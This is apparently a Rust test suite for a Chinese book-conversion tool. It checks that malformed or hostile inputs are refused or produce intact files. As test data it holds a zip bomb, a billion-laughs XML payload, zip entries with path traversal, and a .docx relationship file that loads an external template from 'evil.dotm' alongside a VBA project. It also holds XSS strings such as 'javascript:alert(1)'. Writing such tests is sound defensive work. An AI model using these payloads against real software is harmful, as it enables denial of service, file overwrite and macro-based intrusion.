//! Files that options name: corrections, fonts, styles, covers, models, trees.

use super::stage::{Stage, whole};
use std::io::Write;

const TEXT: &str =
    "文集\n\n第一章 春\n\n清晨出发，走了很远的路。\n一、甲\n二、乙\n\n第二章 夏\n\n傍晚归来。\n";

/// A zip with parts, compressed.
fn zip(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut z = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (name, bytes) in parts {
        z.start_file(*name, options).unwrap();
        z.write_all(bytes).unwrap();
    }
    z.finish().unwrap().into_inner()
}

#[test]
fn corrections_that_do_not_fit_are_refused() {
    for (name, file, says) in [
        (
            "an anchor twice",
            "[[line]]\nstarts = \"第\"\nas = \"para\"\n",
            "start with",
        ),
        (
            "no such line",
            "[[line]]\nstarts = \"冬\"\nas = \"para\"\n",
            "no line starts",
        ),
        ("no TOML", "]]>", "expected"),
        (
            "an unknown key",
            "[[line]]\nstarts = \"第\"\nas = \"emperor\"\n",
            "emperor",
        ),
        (
            "a level beyond",
            "[[line]]\nstarts = \"一、\"\nas = \"heading\"\nlevel = 999\n",
            "999",
        ),
        (
            "lines beyond",
            "[[move]]\nlines = \"5-99999999999999999999\"\nafter = \"一、\"\n",
            "no lines",
        ),
        (
            "a cut beyond",
            "[[line]]\nstarts = \"一、\"\nsplit = 18446744073709551615\n",
            "",
        ),
        ("nested without end", &"[".repeat(100_000), ""),
    ] {
        println!("{name}");
        let stage = Stage::with(TEXT);
        stage.put("c.toml", file);
        stage.convert(
            3,
            says,
            &["in/book.txt", "--to", "docx", "--corrections", "c.toml"],
        );
    }
}

#[test]
fn corrections_that_contradict_lose_nothing() {
    let stage = Stage::with(TEXT);
    let line = |starts: &str, kind: &str| {
        format!("[[line]]\nstarts = \"{starts}\"\nas = \"{kind}\"\nlevel = 0\n")
    };
    let file = [
        line("文集", "continuation"),
        line("第一章", "item"),
        line("第一章", "title"),
        line("清晨", "piece"),
        line("一、", "heading").replace("level = 0", "level = 255"),
        "[[move]]\nlines = \"1-8\"\nafter = \"二、\"\n[[move]]\nlines = \"5\"\nafter = \"清晨\"\n[[replace]]\nstarts = \"傍晚\"\nfind = \"傍\"\nwith = \"\"\n".into(),
    ];
    stage.put("c.toml", file.concat());
    let left = stage.run(&[
        "check",
        "in/book.txt",
        "--roundtrip",
        "--corrections",
        "c.toml",
    ]);
    assert!(matches!(left.code, Some(0 | 3)), "{}", left.said);
}

#[test]
fn fonts_that_are_none_are_refused() {
    let song = std::fs::read("fonts/NotoSansSC-Medium.ttf").unwrap();
    for (name, bytes, code) in [
        ("cut in its directory", song[..100].to_vec(), 3),
        ("empty", Vec::new(), 3),
        ("a text", TEXT.as_bytes().to_vec(), 3),
        ("the head alone", song[..12].to_vec(), 3),
    ] {
        println!("{name}");
        let stage = Stage::with(TEXT);
        stage.put("f.ttf", bytes);
        stage.convert(
            code,
            "f.ttf",
            &["in/book.txt", "--to", "pdf", "--font", "song=f.ttf"],
        );
    }
    // Cut among its glyphs: refused where it is read or where it is reduced, never half a file.
    for part in [2, 3, 10] {
        let stage = Stage::with(TEXT);
        stage.put("f.ttf", &song[..song.len() / part]);
        let left = stage.run(&[
            "convert",
            "in/book.txt",
            "--to",
            "pdf,docx,epub",
            "--embed-fonts",
            "--font",
            "song=f.ttf",
            "-o",
            "out/",
        ]);
        assert!(matches!(left.code, Some(0 | 1 | 3)), "{}", left.said);
        for (name, bytes) in left.files.iter().filter(|(n, _)| n.starts_with("out")) {
            whole(name, bytes);
        }
    }
}

#[test]
fn styles_of_absurd_sizes_are_wrong_usage() {
    for change in [
        "page.text_width=1e300",
        "page.text_height=0",
        "page.width=nan",
        "page.height=-inf",
        "page.lines=0",
        "page.chars=4294967296",
        "page.word_line=-1",
        "roles.body.size=0",
        "roles.body.size=1e9",
        "roles.body.indent=-5",
        "roles.piece.before=1e18",
        "roles.body.face=wingding",
        "page.gutter=../x",
        "page=1",
        "vertical.length=1e9",
        "",
    ] {
        println!("{change}");
        let stage = Stage::with(TEXT);
        stage.convert(2, "", &["in/book.txt", "--to", "pdf,docx", "--set", change]);
    }
    for file in ["]]>", "roles = 1", "\u{0}\u{1}"] {
        let stage = Stage::with(TEXT);
        stage.put("s.toml", file);
        stage.convert(
            2,
            "s.toml",
            &["in/book.txt", "--to", "pdf", "--style", "s.toml"],
        );
    }
    let stage = Stage::with(TEXT);
    stage.put("s.toml", b"\xff\xfe\x00");
    stage.convert(
        3,
        "s.toml",
        &["in/book.txt", "--to", "pdf", "--style", "s.toml"],
    );
}

#[test]
fn covers_that_are_none_are_refused() {
    let png = |wide: u32, high: u32| {
        let mut p = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
        p.extend(wide.to_be_bytes());
        p.extend(high.to_be_bytes());
        p.extend(b"\x08\x06\0\0\0\0\0\0\0");
        p
    };
    for (name, bytes) in [
        ("a text", TEXT.as_bytes().to_vec()),
        ("empty", Vec::new()),
        ("a page of code", b"<svg onload=\"alert(1)\"/>".to_vec()),
        ("a picture without size", png(0, 0)),
        ("a picture cut short", b"\x89PNG\r\n\x1a\n".to_vec()),
        ("a photograph cut short", b"\xff\xd8\xff\xe0\xff".to_vec()),
        (
            "a photograph of runs without end",
            [b"\xff\xd8".to_vec(), vec![0xff; 100_000]].concat(),
        ),
    ] {
        println!("{name}");
        let stage = Stage::with(TEXT);
        stage.put("c.png", bytes);
        stage.convert(
            3,
            "c.png",
            &["in/book.txt", "--to", "epub", "--cover", "c.png"],
        );
    }
}

#[test]
fn models_that_mean_harm_make_no_harm() {
    let bomb = vec![b' '; 300_000_000];
    let laughs = br#"<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "hahahahahaha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><w:document xmlns:w="x"><w:body><w:p><w:t>&b;</w:t></w:p></w:body></w:document>"#;
    let out = br#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://a.b/evil.dotm" TargetMode="External"/><Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>"#;
    for (name, bytes) in [
        ("a text", TEXT.as_bytes().to_vec()),
        ("an empty zip", zip(&[])),
        (
            "a bomb",
            zip(&[
                ("word/document.xml", &bomb),
                ("word/styles.xml", b"<x/>"),
                ("[Content_Types].xml", b"<x/>"),
            ]),
        ),
        (
            "entities in entities",
            zip(&[("word/document.xml", laughs), ("word/styles.xml", laughs)]),
        ),
        (
            "paths that climb",
            zip(&[
                ("../../x", b"x"),
                ("/etc/x", b"x"),
                ("word/document.xml", b"<x/>"),
            ]),
        ),
        (
            "no XML",
            zip(&[
                ("word/document.xml", b"\xff\xfe]]>"),
                ("word/styles.xml", b"<a><b></a>"),
            ]),
        ),
        (
            "a template from outside",
            zip(&[
                (
                    "word/document.xml",
                    b"<w:document xmlns:w=\"x\"><w:body/></w:document>",
                ),
                ("word/styles.xml", b"<w:styles xmlns:w=\"x\"/>"),
                ("word/_rels/document.xml.rels", out),
                ("word/_rels/settings.xml.rels", out),
                ("word/settings.xml", b"<w:settings xmlns:w=\"x\"/>"),
                ("word/vbaProject.bin", b"x"),
                ("[Content_Types].xml", b"<Types/>"),
            ]),
        ),
    ] {
        println!("{name}");
        let stage = Stage::with(TEXT);
        stage.put("m.docx", bytes);
        let left = stage.run(&[
            "convert",
            "in/book.txt",
            "--to",
            "docx",
            "--reference-docx",
            "m.docx",
            "-o",
            "out/",
        ]);
        assert!(
            matches!(left.code, Some(0 | 1 | 3)),
            "{name}: {}",
            left.said
        );
        for (file, bytes) in left.files.iter().filter(|(n, _)| n.starts_with("out")) {
            whole(file, bytes);
        }
    }
}

#[test]
fn trees_from_outside_are_refused_or_whole() {
    let deep = |open: &str, close: &str| open.repeat(50_000) + &close.repeat(50_000);
    for (name, json, code) in [
        ("nothing", String::new(), 3),
        ("no JSON", "{".into(), 3),
        ("a list", "[]".into(), 3),
        ("nested without end", deep("[", "]"), 3),
        ("sections without end", deep("{\"blocks\":[{\"type\":\"section\",", "}]}"), 3),
        ("numbers beyond", "{\"version\":99999999999999999999}".into(), 3),
        ("an unknown block", "{\"blocks\":[{\"type\":\"script\"}]}".into(), 3),
        ("another kind of JSON", "{\"name\":\"x\"}".into(), 3),
        ("nothing in it", "{\"blocks\":[]}".into(), 0),
        ("a text with places that lie", r#"{"blocks":[{"type":"paragraph","inlines":[{"type":"text","text":"春天","segments":[{"at":1,"span":[5,1]},{"at":4000000000,"span":[0,4294967295]}]}]}]}"#.into(), 0),
        ("words of XML", r#"{"metadata":{"title":"\u0000]]><script>","author":"\uffff","language":"\"><script>"},"blocks":[{"type":"image","target":"javascript:alert(1)","alt":{"text":"x"}},{"type":"paragraph","inlines":[{"type":"link","target":"javascript:alert(1)","content":[{"type":"text","text":"x"}]}]}]}"#.into(), 0),
    ] {
        println!("{name}");
        let stage = Stage::bare();
        stage.put("in/book.json", json);
        let left = stage.run(&["convert", "in/book.json", "--to", "docx,epub,pdf,html,markdown,pandoc,text", "-o", "out/"]);
        assert_eq!(left.code, Some(code), "{name}: {}", left.said);
        for (file, bytes) in left.files.iter().filter(|(n, _)| n.starts_with("out")) {
            println!("{}", file.display());
            whole(file, bytes);
        }
    }
}

#[test]
fn settings_that_are_none_are_told() {
    for file in [
        "]]>",
        "[convert]\nlaunch = \"x\"\n",
        "[convert]\nto = \"exe\"\n",
        "[convert]\njobs = -1\n",
        "\u{0}",
    ] {
        println!("{file:?}");
        let stage = Stage::with(TEXT);
        stage.put("wenji.toml", file);
        let left = stage.run(&["convert", "in/book.txt", "--to", "docx", "-o", "out/"]);
        assert!(
            matches!(left.code, Some(2 | 3)),
            "{:?}: {}",
            left.code,
            left.said
        );
        assert!(!left.files.keys().any(|f| f.starts_with("out")));
    }
}
